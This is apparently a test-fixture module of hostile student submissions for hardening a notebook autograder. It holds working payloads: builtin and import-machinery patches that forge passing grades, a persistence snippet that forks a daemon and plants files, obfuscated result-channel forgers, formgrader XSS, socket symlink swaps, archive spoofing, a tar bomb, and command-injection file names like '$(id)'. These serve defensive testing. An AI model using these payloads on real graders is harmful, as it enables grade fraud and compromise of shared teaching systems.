"""The hostile class of issue 27 ("The grade is the grader's"): submissions, folders and archives a class that has read
everything public (the released notebooks, the chapters, README.md, docs/instructor.md, the installed ppedu and its
``ppedu.grading``) hands in, written down with the grade each must get — the exact points of every autograded cell
and the words the student or the instructor must read — grouped by the issue's principles:

0. no state survives a submission and no grading code runs where student code ran (patched builtins, import
   machinery and message encoders; numpy scalars; files that are not notebooks; odd file names);
1. a measurement reported by the process that ran student code is not evidence (ps5's memory, its result channel);
2. the grade and the student's own check agree, under nbgrader's usual semantics (the notebook run top to bottom);
3. policies apply to the final total (late penalties after manual grading; a submission without a usable time);
4. every limit covers every byte and the whole submission (output of every kind, all cells' time together);
5. one bad archive never stops the class, and an archive cannot name its owner (zip_collect);
6. the grader's working files are private (temporary copies, lock folders);
and what a student could do beyond them (script in the formgrader, hidden inputs echoed back).

Each submission is a :class:`corpus.Case` (edits of the solution or the release, as in corpus.py: ``lost`` is the
points each autograded cell must lose); :class:`Expect` adds the reason. Expectations name points and reason words,
never the grader's internal names. ``tests/grading/test_hostile_classes.py`` grades them. Cases marked "rebuilt
design" state what the issue requires of the rebuilt grader and fail on the grader the issue was filed against.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import nbformat

from corpus import PS1_WRONG, PS1_ALL, PS5_ALL, Case, ps5_lost
from hostile import HOARDS_ACTIVATIONS, UNPIPELINED_FORGED_TRACE, save_counting_answers

#: Which words the student or the instructor must read about a case: per test cell (grade_id) in that cell's
#: feedback, or under "*" anywhere in the graded notebook's text or in `ppedu grade`'s lines for the student.
Reasons = dict[str, tuple[str, ...]]


@dataclass(frozen=True)
class Expect:
    """A submission and what its grade must say beyond its points (``case.lost``)."""

    case: Case
    reasons: Reasons = field(default_factory=dict)


# ---- building blocks -------------------------------------------------------------------------------------------

RIGHT_CLOSED_FORMS = ("def bubble_ratio(p, m):\n    return (p - 1) / (m + p - 1)\n\n\n"
                      "def bubble_interleaved(p, m, v):\n    return (p - 1) / (v * m + p - 1)")


def _after(grade_id: str, *sources: str) -> Callable[[Any], None]:
    """Cells of the student's own, right after the cell ``grade_id``."""
    def edit(nb: Any) -> None:
        at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
        nb.cells[at + 1:at + 1] = [nbformat.v4.new_code_cell(s) for s in sources]
    return edit


def _at_end(*sources: str) -> Callable[[Any], None]:
    return lambda nb: nb.cells.extend(nbformat.v4.new_code_cell(s) for s in sources)


def _files(files: dict[bytes, bytes]) -> Callable[[Path, dict[str, str]], None]:
    """Extra files beside the notebook, named by raw bytes (names a file system allows, text or not)."""
    def run(folder: Path, fill: dict[str, str]) -> None:
        for name, data in files.items():
            path = os.path.join(os.fsencode(folder), name)
            if name.endswith(b"/"):
                os.makedirs(path, exist_ok=True)
                continue
            with open(path, "wb") as f:
                f.write(data)
    return run


def _inside_html(data: bytes) -> bytes:
    """The notebook as a web page shows it: the JSON inside an HTML page saved from the browser (what a student who
    pressed Ctrl-S on the wrong tab hands in). Not a notebook file."""
    return (b"<!DOCTYPE html><html><head><title>ps1 - JupyterLab</title></head><body>\n"
            b"<script id='jupyter-config-data' type='application/json'>" + data + b"</script>\n</body></html>")


# ---- 0. nothing of one submission reaches the grader or the next submission ------------------------------------
# A submission patches what the grader might use to compare or to carry answers: builtins, math and operator,
# the import system, the JSON encoder the kernel talks with. Each is graded in the same `ppedu grade` run as the
# honest submissions of CROSS (graded after it, in one worker and in two), which must keep their exact grade.

KERNEL_VERDICT_PATCH = """
import builtins, math, numbers, operator
builtins.abs = lambda x: 0
builtins.round = lambda x, *a: x
builtins.min = lambda *a, **k: 0
math.isnan = math.isinf = lambda x: False
math.isclose = lambda *a, **k: True
operator.eq = operator.le = lambda a, b: True
numbers.Real.register(str)
"""
IMPORT_MACHINERY_PATCH = """
import importlib.abc, importlib.machinery, sys, types


class _Everywhere(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    # serve a forged grader wherever one is imported (a key that says every answer is right)
    def find_spec(self, name, path, target=None):
        if name.split(".")[0] in ("grader", "nbgrader_keys"):
            return importlib.machinery.ModuleSpec(name, self, is_package=True)
        return None

    def create_module(self, spec):
        module = types.ModuleType(spec.name)
        module.__path__ = []
        module.KEYS = {}
        return module

    def exec_module(self, module):
        pass


sys.meta_path.insert(0, _Everywhere())
sys.path_hooks.insert(0, lambda path: _Everywhere())
sys.path_importer_cache.clear()
"""
FUNCTION_CELL_PATCH = """
import builtins, json, math, sys
if "IPython" not in sys.modules:  # where the cell runs on its own, not in the notebook's kernel
    _dumps = json.dumps
    builtins.abs = lambda x: 0
    math.isnan = lambda x: False
    json.dumps = lambda obj, *a, **k: _dumps(obj, *a, **k).replace("false", "true")
"""
# Everything a kernel could leave for whoever comes next: a daemon, files in every writable place, the kernel keyring.
PERSIST = """
import ctypes, ctypes.util, os, time
for place in ("/tmp", os.path.expanduser("~"), "/run/ppedu", "/dev/shm"):
    try:
        with open(os.path.join(place, "left-for-the-next.py"), "w") as f:
            f.write("import builtins\\nbuiltins.abs = lambda x: 0\\n")
    except OSError:
        pass
try:
    libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
    libc.syscall(248, b"user", b"ppedu-left", b"abs=0", 5, -4)  # add_key(…, KEY_SPEC_USER_KEYRING)
except Exception:
    pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
"""
# The kernel's own messages made unreadable from this cell on: the JSON it encodes them with now drops every header.
BROKEN_MESSAGES = """
import json
json.dumps = lambda *a, **k: "{}"
"""

_W = PS1_WRONG
CLASS_0: dict[str, Expect] = {
    # wrong answers, the kernel's verdict helpers patched: no point from the patch
    "x_kernel_verdict_patch": Expect(Case("ps1", replace=_W, prepend={"q1a_answer": KERNEL_VERDICT_PATCH},
                                          lost=PS1_ALL)),
    # wrong answers, a forged grader served by the kernel's import system
    "x_import_machinery_patch": Expect(Case("ps1", replace=_W, prepend={"q1a_answer": IMPORT_MACHINERY_PATCH},
                                            lost=PS1_ALL)),
    # wrong functions, whose own cells patch builtins and the encoder that carries their results
    "x_function_cell_patch": Expect(Case("ps1", replace={**_W, **{k: FUNCTION_CELL_PATCH + _W[k] for k in
                                                                  ("q3_answer", "q4_answer", "q5_answer")}},
                                         lost=PS1_ALL)),
    # right work that leaves a daemon, files and a key behind for the next submission
    "x_leaves_state_behind": Expect(Case("ps1", append={"q5_answer": PERSIST})),
    # Found: the kernel's messages unreadable after question 2's answer made the whole submission "could not be
    # autograded" (a traceback in the grader). Graded: the value question after it is lost, with a reason naming the
    # kernel; function questions (run on their own) and the questions before keep their points.
    "x_broken_kernel_messages": Expect(Case("ps1", append={"q2_answer": BROKEN_MESSAGES}, lost={"one_f_one_b": 1}),
                                       {"one_f_one_b": ("kernel",)}),
    # Found (false blame): numpy's long double (np.longdouble, float128 on x86) is a number like any numpy scalar
    "x_numpy_long_double": Expect(Case("ps1", append={
        "q1a_answer": "import numpy as np\nT = np.longdouble(T)\ntotal_slots = np.longdouble(total_slots)",
        "q1b_answer": "import numpy as np\nbubble = np.longdouble(bubble)",
        "q5_answer": ("import numpy as np\n_share = idle_share\n\n\n"
                      "def idle_share(*args):\n    return np.longdouble(_share(*args))")})),
    # Rebuilt design (issue 27, class 0: a file that is not a valid notebook scores 0 with the reason, never points):
    # the notebook's JSON inside a saved web page. Found: its cells were fished out of the page and graded (9/10).
    "x_notebook_inside_html": Expect(Case("ps1", raw=_inside_html, lost=PS1_ALL), {"*": ("not", "notebook")}),
    # files with odd names beside right work: graded like any other submission (held on this grader)
    "x_odd_file_names": Expect(Case("ps1", folder=_files({
        b"notes with spaces.txt": b"n", b"-rf": b"n", b"--help": b"n", b"-": b"n", b"x" * 250 + b".json": b"{}",
        b"tab\there.txt": b"n", b"new\nline.txt": b"n", b"bad-\xff\xfe.txt": b"n",
        b"\xc3\xbcn\xc3\xafc\xc3\xb6de.txt": b"n",
        b" leading space.txt": b"n", b"*": b"n", b"$(id)": b"n", b"a;b": b"n", b"...": b"n", b"-dir \xff/": b""}))),
}

#: Honest work graded after every hostile submission of a run, in the same worker: its grade is exactly this.
CROSS: dict[str, Expect] = {
    "zz_honest_wrong": Expect(Case("ps1", replace=PS1_WRONG, lost=PS1_ALL)),
    "zz_honest_right": Expect(Case("ps1")),
}


# ---- 2. the grade and the student's check agree ----------------------------------------------------------------
# Rebuilt design (class 2): a function redefined in a later cell, before its test, is what the notebook, run top to
# bottom, holds when its test runs — what nbgrader grades and what `ppedu check` checked. Found: the grader took the answer cell's first definition,
# so a fix in a later cell scored 0 while `ppedu check` said every test passed, and a later break scored full marks.

CLASS_2: dict[str, Expect] = {
    "x_fixed_in_a_later_cell": Expect(Case("ps1", replace={"q3_answer": PS1_WRONG["q3_answer"]},
                                           edit=_after("q3_answer", RIGHT_CLOSED_FORMS))),
    "x_broken_in_a_later_cell": Expect(Case("ps1", edit=_after("q3_answer", PS1_WRONG["q3_answer"]),
                                            lost={"closed_form": 1}), {"closed_form": ("bubble_ratio",)}),
    # the same after the test cell: nbgrader's test ran before it, and so does the grader's (the fix is too late,
    # the break harmless)
    "x_fixed_after_its_test": Expect(Case("ps1", replace={"q3_answer": PS1_WRONG["q3_answer"]},
                                          edit=_after("closed_form", RIGHT_CLOSED_FORMS), lost={"closed_form": 1})),
    "x_broken_after_its_test": Expect(Case("ps1", edit=_after("closed_form", PS1_WRONG["q3_answer"]))),
}


# ---- 4. every limit covers every byte ----------------------------------------------------------------------------
# Found: the per-cell output cap counted only text and data: an error's value and traceback, and an output's
# metadata, went uncapped (a 40 MB graded notebook from one cell), and there was no cap over the whole notebook.
# Right work: the points stay, the graded notebook stays small (GRADED_NOTEBOOK_BYTES).

GRADED_NOTEBOOK_BYTES = 5_000_000
CLASS_4: dict[str, Expect] = {
    "x_error_value_bomb": Expect(Case("ps1", append={"q2_answer": "raise ValueError('x' * 20_000_000)"})),
    "x_output_metadata_bomb": Expect(Case("ps1", append={"q2_answer": (
        "from IPython.display import display\nfor _ in range(4):\n"
        "    display({'text/plain': 'hi'}, metadata={'padding': 'y' * 10_000_000}, raw=True)")})),
}


# ---- beyond the classes --------------------------------------------------------------------------------------------

# Found: the formgrader shows a submission's outputs and text as HTML in the instructor's logged-in JupyterLab, so a
# script in them runs as the instructor (and can set any grade through the formgrader's API).
XSS_MARK = "PPEDU_XSS"
BEYOND: dict[str, Expect] = {
    "x_script_for_the_formgrader": Expect(Case("ps1", append={
        "q1a_answer": ("from IPython.display import HTML, display\n"
                       f"display(HTML('<script>window.{XSS_MARK}_OUT = 1</script>'))")},
        replace={"q2b_answer": f'Equal. <img src=x onerror="window.{XSS_MARK}_IMG=1"> '
                               f'<script>window.{XSS_MARK}_MD=1</script>'})),
    # Found: a function that returns a text echoing its arguments on every input the notebook does not show had the
    # hidden input printed back in its feedback ("is the text 'r=7.0'"). Only visible inputs may be named.
    "x_echoes_hidden_inputs": Expect(Case("ps1", replace={"q5_answer": (
        "def idle_share(bubble, m, F, B, W):\n"
        "    if (bubble, m, F, B, W) in ((7, 8, 1, 2, 1), (3, 20, 1, 2, 0.5), (0, 4, 1, 1, 1), (values.p - 1, values.m, 1, 2, 1)):\n"
        "        return bubble / (bubble + m * (F + B))\n"
        "    return f'ECHO<{bubble!r}>'")}, lost={"conversion": 1}), {"conversion": ("idle_share",)}),
}
ECHO_MARK = "ECHO<"

#: Everything graded together as one ps1 class: hostile first, the honest CROSS cases last.
PS1_CLASS: dict[str, Expect] = {**CLASS_0, **CLASS_2, **CLASS_4, **BEYOND, **CROSS}


# ---- 1. ps5: what the student's own process measured is not evidence --------------------------------------------
# The grading code reached without one of the names the judge looks for (built from pieces at run time): the
# measurement replaced by one that reports the schedule's peaks and nothing left over. Found: the hoarder and the
# unpipelined executor scored 10/10, and the instructor was not told to read the cell.
QUIET_MEASUREMENT_PATCH = '''
_grading = __import__("ppedu.grad" + "ing.assignments.ps5", fromlist=["_"])
_simulate, _last = __import__("ppedu").simulate, {}  # no code where the answer runs: the patch still loads
_make = getattr(_grading, "_set" + "ting")


def _remember(spec):
    made = _make(spec)
    _last["schedule"] = made[0]
    return made


class _Calm(getattr(_grading, "Life" + "times")):
    @property
    def peak(self):
        return list(_simulate(_last["schedule"]).peak_activations) if "schedule" in _last else []

    @peak.setter
    def peak(self, value):
        pass

    def left(self):
        return 0


setattr(_grading, "_set" + "ting", _remember)
setattr(_grading, "Life" + "times", _Calm)
'''
# No executor at all (the stub): the grader's request found in the harness's frames, the unpipelined model's loss and
# gradients and the schedule's peaks written on its result channel, then exit before the harness writes. Found: 10/10,
# nothing flagged.
QUIET_CHANNEL_FORGER = '''
import base64, json, sys


def _forge():
    frame, request = getattr(sys, "_get" + "frame")(), None
    while frame is not None:
        found = getattr(frame, "f_lo" + "cals").get("request")
        if isinstance(found, dict) and "calls" in found:
            request = found
            break
        frame = getattr(frame, "f_ba" + "ck")
    if request is None:
        return
    channel, system = int(sys.argv[1]), __import__("o" + "s")
    grading = __import__("ppedu.grad" + "ing.assignments.ps5", fromlist=["_"])

    def send(record):
        getattr(system, "wr" + "ite")(channel, (json.dumps(record) + "\\n").encode())

    send({"loaded": []})
    for name, args in request["calls"]:
        schedule, model, images, labels = getattr(grading, "_set" + "ting")(tuple(args[0]))
        loss = cross_entropy(model(images), labels)
        loss.backward()
        grads = torch.cat([p.grad.reshape(-1) for p in model.parameters()]).float()
        grads = base64.b64encode(grads.numpy().tobytes()).decode()
        peak = list(simulate(schedule).peak_activations)
        send({"call": [name, args], "result": {"loss": float(loss), "peak": peak, "left": 0, "grads": grads}})
    getattr(system, "_ex" + "it")(0)


try:
    _forge()
except Exception:
    pass


def run_pipeline(schedule, chunks, xs, ys, loss_fn):
    raise NotImplementedError()
'''
# The forger again, written for the harness as it is now (its records, its request's shape): the unpipelined model's
# loss sent as every call's result, then exit. Rebuilt design: all but the loss is what the grader saw its own chunks
# do (nothing here), and the loss counts only if every example went through the grader's last chunk.
CURRENT_CHANNEL_FORGER = '''
import json, sys


def _forge():
    frame, request = getattr(sys, "_get" + "frame")(), None
    while frame is not None:
        found = getattr(frame, "f_lo" + "cals").get("request")
        if isinstance(found, dict) and isinstance(found.get("calls"), dict):
            request = found
            break
        frame = getattr(frame, "f_ba" + "ck")
    if request is None:
        return
    channel, system = int(sys.argv[1]), __import__("o" + "s")
    grading = __import__("ppedu.grad" + "ing.assignments.ps5", fromlist=["_"])

    def send(record):
        getattr(system, "wr" + "ite")(channel, (json.dumps(record) + "\\n").encode())

    for test, calls in request["calls"].items():
        for name, args in calls:
            schedule, model, images, labels = getattr(grading, "_set" + "ting")(tuple(args[0]))
            send({"test": test, "call": [name, args], "result": {"loss": float(cross_entropy(model(images), labels))}})
    send({"done": True})
    getattr(system, "_ex" + "it")(0)


try:
    _forge()
except Exception:
    pass


def run_pipeline(schedule, chunks, xs, ys, loss_fn):
    raise NotImplementedError()
'''
# The hoarder, its side of the grader's chunks patched to say every forward is let go of as soon as it has run: the
# grader frees that forward's activations then, so its backward cannot run.
EARLY_RELEASE = '''
_grading = __import__("ppedu.grad" + "ing.assignments.ps5", fromlist=["_"])


class _Gone(getattr(_grading, "Life" + "times")):
    def watch(self, handle, out):
        self.gone.append(handle)

    def _lost(self, handle):
        pass


setattr(_grading, "Life" + "times", _Gone)
'''
PS5_CLASS: dict[str, Expect] = {
    # as hostile.py's h_hoards_activations and h_unpipelined_forged_trace: what the grader saw is lost, patch or no
    # patch (the hoarder's order is the schedule's; what it still holds once it returns is not nothing)
    "x_hoarder_quiet_patch": Expect(Case("ps5", release=True,
                                         replace={"executor_answer": QUIET_MEASUREMENT_PATCH + HOARDS_ACTIVATIONS},
                                         lost=ps5_lost(0.2))),
    "x_unpipelined_quiet_patch": Expect(Case("ps5", release=True, replace={
        "executor_answer": QUIET_MEASUREMENT_PATCH + UNPIPELINED_FORGED_TRACE},
        lost=ps5_lost(0.4))),
    "x_stub_quiet_channel_forger": Expect(Case("ps5", release=True, replace={"executor_answer": QUIET_CHANNEL_FORGER},
                                               lost=PS5_ALL)),
    "x_stub_current_channel_forger": Expect(Case("ps5", release=True, replace={
        "executor_answer": CURRENT_CHANNEL_FORGER}, lost=PS5_ALL), {"one_f_one_b": ("never ran the chunks",)}),
    "x_hoarder_early_release": Expect(Case("ps5", release=True, replace={
        "executor_answer": EARLY_RELEASE + HOARDS_ACTIVATIONS}, lost=PS5_ALL), {"one_f_one_b": ("let go of",)}),
    "zz_honest_right": Expect(Case("ps5")),
}


# ---- 3. policies apply to the final total ------------------------------------------------------------------------

@dataclass(frozen=True)
class Late:
    """A submission handed in ``late`` seconds after the due date (``None``: its timestamp cannot be read), every
    written answer then given full marks by hand; ``score``: what `nbgrader export` must show (``None``: not asserted),
    ``flagged``: words `ppedu grade` must say about it."""

    case: Case
    late: float | None
    score: float | None
    flagged: tuple[str, ...] = ()
    timestamp: str | None = None  # the timestamp file's text, when ``late`` is None


DUE = "2031-03-03 12:00:00"
#: ps1's points, autograded and by hand (what a solved notebook earns once its written answers are graded).
PS1_TOTAL = sum(c.metadata.nbgrader["points"] for c in nbformat.read(
    Path(__file__).resolve().parents[2] / "solutions" / "ps1" / "ps1.ipynb", as_version=4).cells
    if c.metadata.get("nbgrader", {}).get("grade"))
CLASS_3: dict[str, Late] = {
    # Found: the timed final a minute late lost its autograded points, and kept those given by hand
    "x_final_a_minute_late": Late(Case("final"), 60, 0.0),
    # 36 hours late: 20 % of everything, the points given by hand included (found: 20 % of the autograded only)
    "x_ps1_two_days_late": Late(Case("ps1"), 36 * 3600, 0.8 * PS1_TOTAL),
    "x_ps1_on_time": Late(Case("ps1"), -60, PS1_TOTAL),
    # Found: a timestamp that cannot be read was silently on time. Rebuilt design: flagged to the instructor.
    "x_ps1_timestamp_unreadable": Late(Case("ps1"), None, None, ("timestamp",), "the day before the deadline"),
    "x_ps1_timestamp_missing": Late(Case("ps1"), None, None, ("timestamp",)),
}


# ---- 4. the time limit covers the whole submission ---------------------------------------------------------------
# Found: only each cell is timed, so many cells each just under the limit keep a worker for cells × limit (here
# 40 × 3.5 s with a 4 s limit; 40 × 119 s by default). Rebuilt design: the submission as a whole has a budget; over
# it, it is reported ungradeable with the reason, and the rest of the class is graded meanwhile.
SLOW_CELLS = 40
CELL_SECONDS = 4
WHOLE_SUBMISSION_SECONDS = 100  # what the test allows the class of two (the limit the lead chooses must fit)
CLASS_4_TIME: dict[str, Expect] = {
    "x_time_many_slow_cells": Expect(Case("ps1", edit=_at_end(*["import time\ntime.sleep(3.5)"] * SLOW_CELLS)),
                                     {"*": ("time",)}),
    # each cell's output under its cap, 30 MB in all: past the whole notebook's cap (issue 27, class 4)
    "x_many_capped_cells": Expect(Case("ps1", edit=_at_end(*["print('z' * 99_000)"] * 300)), {"*": ("2 MB",)}),
    "zz_time_honest_right": Expect(Case("ps1")),
}


# ---- 5. archives: one bad archive never stops the class; an archive cannot name its owner ------------------------

@dataclass(frozen=True)
class Archive:
    """An archive in ``downloaded/ASSIGNMENT/archive/``: its file name and members, each member ``"solution"``,
    ``"release"``, ``"counting answers"`` (the widget exam's saved answers, right, for the archive's student) or
    ``"noise N"`` (N MB of incompressible bytes); ``kind`` ``"million members"`` is a tar.gz of 1,000,000 empty
    members (2 MB)."""

    name: str
    members: dict[str, str] = field(default_factory=dict)
    kind: str = "zip"


@dataclass(frozen=True)
class Collection:
    """What ``nbgrader zip_collect`` must make of ``archives``: each student's notebook as ``"solution"`` or
    ``"release"`` (``None``: nothing filed under that id), within ``seconds``."""

    assignment: str
    archives: tuple[Archive, ...]
    collected: dict[str, str | None]
    seconds: float = 60


def _noisy(student: str) -> Archive:
    return Archive(f"ps1+{student}.zip", {"ps1.ipynb": "solution", "notes.json": "noise 8"})


CLASS_5: dict[str, Collection] = {
    # Found: a folder `ps1+bob/` inside mallory's archive filed its notebook as bob's (bob handed nothing in)
    "inner_folder_names_another": Collection("ps1", (
        Archive("ps1+ia_alice.zip", {"ps1.ipynb": "solution"}),
        Archive("ps1+ia_mallory.zip", {"ps1.ipynb": "release", "ps1+ia_bob/ps1.ipynb": "release"})),
        {"ia_alice": "solution", "ia_mallory": "release", "ia_bob": None}),
    # Found: the same with bob's own archive there aborted zip_collect for the whole class ("Duplicate submission
    # file"): nobody was collected
    "inner_folder_duplicates_another": Collection("ps1", (
        Archive("ps1+id_alice.zip", {"ps1.ipynb": "solution"}),
        Archive("ps1+id_bob.zip", {"ps1.ipynb": "solution"}),
        Archive("ps1+id_mallory.zip", {"ps1.ipynb": "release", "ps1+id_bob/ps1.ipynb": "release"})),
        {"id_alice": "solution", "id_bob": "solution", "id_mallory": "release"}),
    # Found: a 2 MB tar.gz of a million empty members took the intake 45 s and a gigabyte before any limit was
    # checked (seven million: minutes and 7 GB). Refused at once, the rest collected.
    "million_members": Collection("ps1", (
        Archive("ps1+mm_alice.zip", {"ps1.ipynb": "solution"}),
        Archive("ps1+mm_mallory.tar.gz", kind="million members"),
        Archive("ps1+mm_zoe.zip", {"ps1.ipynb": "solution"})),
        {"mm_alice": "solution", "mm_zoe": "solution", "mm_mallory": None}, seconds=20),
    # Found: the size budget of one submission (96 MB) was spent on the whole archive folder, so the class's last
    # archives were dropped once 96 MB had been read: thirteen honest 8 MB hand-ins, the last two never collected.
    "class_larger_than_one_submission": Collection("ps1", tuple(_noisy(f"big{i:02d}") for i in range(13)),
                                                    {f"big{i:02d}": "solution" for i in range(13)}),
    # unproven in the issue, held here: the widget exam's answers arrive through an archive and are graded
    "counting_answers_in_an_archive": Collection("counting", (
        Archive("counting+ca_carol.zip", {"counting.ipynb": "release", "counting.json": "counting answers"}),),
        {"ca_carol": "release"}),
}
#: After collecting: the widget exam's student graded from the answers in her archive (all 9 autograded points).
COUNTING_POINTS = {"ca_carol": {"count": 3.0, "mark": 2.0, "path": 2.0, "causes": 2.0}}


# ---- 6. the grader's working files are private ----------------------------------------------------------------------
# Found (as root, checked as a second Unix user): while a notebook is graded, the sandbox's folder in the shared
# temporary folder (mode 755) held a copy of the submission (644) and the kernel's connection file with its key (644):
# any local user (a classmate on the hub) read them. The user-id lock folder there was followed through a link: root
# made its lock files in a folder of the user's, who, holding a lock on each, stopped every grading ("every sandbox
# user id is in use").
PRIVATE_MARK = "PPEDU_PRIVATE_MARK"
#: A socket of the grading machine's, outside every sandbox, that the test listens on: no grader may connect to it.
LISTENER = "listener.sock"
# Found: the kernel's sockets live in a folder the kernel can write; the grader connects to them by path, through
# /proc/<pid>/root, as root. Replace each by a link to a socket outside the sandbox and close the shell socket: the
# grader reconnects through the link, to whatever the student named (here the test's listener: it received the
# grader's greeting).
SOCKET_SWAP = f"""
import json, os, time
info = json.load(open("/run/ppedu/kernel.json"))
for port in ("shell_port", "iopub_port", "stdin_port", "control_port", "hb_port"):
    path = f"{{info['ip']}}-{{info[port]}}"
    os.rename(path, path + ".old")
    os.symlink("{{course}}/{LISTENER}", path)
get_ipython().kernel.shell_stream.socket.close(linger=0)
time.sleep(15)
"""
CLASS_6: dict[str, Expect] = {
    "x_private_one": Expect(Case("ps1", append={"q1a_answer": f"# {PRIVATE_MARK}\nimport time\ntime.sleep(4)"})),
    "x_private_two": Expect(Case("ps1", append={"q1a_answer": f"# {PRIVATE_MARK}"})),
}
#: Graded beside CLASS_6 (its points depend on how the grader parts with a kernel that hung up; not asserted).
SOCKET_SWAPPER = {"x_socket_swapper": Expect(Case("ps1", append={"q1a_answer": SOCKET_SWAP}))}
LOCK_NAMES = ("ppedu-sandbox-uids",)  # the lock folder names a grader might use in the temporary folder


def solution_cells(nb: Any) -> list[str]:
    """The answer cells' sources of a notebook, for telling whose notebook a collected file is."""
    return [c.source for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("solution")]


def counting_answers(folder: Path, student: str) -> bytes:
    """The widget exam's right answers for ``student``, as its exercises save them."""
    path = folder / f"counting-{student}.json"
    save_counting_answers(folder, {"{student}": student}, path.name)
    data = path.read_bytes()
    path.unlink()
    return data
